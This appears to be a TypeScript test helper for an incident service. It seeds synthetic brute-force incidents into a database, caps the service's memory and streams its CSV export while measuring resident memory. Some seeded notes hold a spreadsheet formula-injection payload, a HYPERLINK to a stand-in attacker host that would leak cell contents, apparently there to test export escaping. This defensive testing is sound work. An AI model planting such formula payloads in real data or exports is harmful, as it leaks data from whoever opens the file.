import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse';
import type pg from 'pg';
import { startService, type RunningService } from './service.js';

/** Resident set size of a process, from /proc (bytes). */
export const rssOf = (pid: number): number => Number(/VmRSS:\s+(\d+) kB/.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1] ?? 0) * 1024;

/** The service with its V8 old space capped at `heapMb`: a request that held a large result would run it out of memory. */
export async function startServiceWithHeap(heapMb: number): Promise<RunningService> {
  const nodeArgs = process.env.SERVICE_NODE_ARGS;
  process.env.SERVICE_NODE_ARGS = `${nodeArgs ?? ''} --max-old-space-size=${heapMb}`;
  try {
    return await startService();
  } finally {
    if (nodeArgs === undefined) delete process.env.SERVICE_NODE_ARGS;
    else process.env.SERVICE_NODE_ARGS = nodeArgs;
  }
}

/**
 * Inserts `count` incidents straight into the read model, positions above
 * `base`: every 7th acknowledged with a formula as its note, evidence with
 * quotes, commas and a newline.
 */
export async function insertIncidents(db: pg.Pool, count: number, base: number): Promise<void> {
  await db.query(
    `insert into rm.incidents (incident_id, position, rule, severity, status, user_id, account_number, ip, country, evidence, raised_at,
       acknowledged_by, acknowledged_note, acknowledged_at, updated_at, last_position)
     select gen_random_uuid(), $2::bigint + g, 'brute_force', (array['low','medium','high','critical'])[1 + g % 4],
       case when g % 7 = 0 then 'acknowledged' else 'open' end, null, null, '203.0.113.' || (g % 250), 'JO',
       jsonb_build_object('email', 'victim' || g || '@example.com', 'failed_attempts', g % 9, 'note', 'has "quotes", commas
and a newline'),
       now() - make_interval(secs => g), case when g % 7 = 0 then 'staff@example.com' end,
       case when g % 7 = 0 then '=HYPERLINK("http://evil.example/?" & A1)' end, case when g % 7 = 0 then now() end, now(), $2::bigint + g
     from generate_series(1, $1::int) g`,
    [count, base],
  );
}

export interface StreamedCsv {
  status: number;
  rows: number;
  lastRow: Record<string, string> | undefined;
  ms: number;
  /** Resident set of `pid` before the request and its peak during it (bytes). */
  rssBefore: number;
  rssPeak: number;
}

/** Downloads a CSV, parsing it as it arrives (never holding it), while sampling the service's resident set. */
export async function streamCsv(url: string, token: string, pid: number): Promise<StreamedCsv> {
  const started = Date.now();
  const rssBefore = rssOf(pid);
  let rssPeak = rssBefore;
  const sampler = setInterval(() => (rssPeak = Math.max(rssPeak, rssOf(pid))), 20);
  try {
    const res = await fetch(url, { headers: { authorization: `Bearer ${token}` } });
    let rows = 0;
    let lastRow: Record<string, string> | undefined;
    if (res.status === 200 && res.body) {
      const parser = parse({ columns: true });
      const counted = (async () => {
        for await (const row of parser) {
          rows += 1;
          lastRow = row as Record<string, string>;
        }
      })();
      for await (const chunk of res.body) {
        if (!parser.write(chunk)) await new Promise((r) => parser.once('drain', r));
      }
      parser.end();
      await counted;
    }
    return { status: res.status, rows, lastRow, ms: Date.now() - started, rssBefore, rssPeak };
  } finally {
    clearInterval(sampler);
  }
}
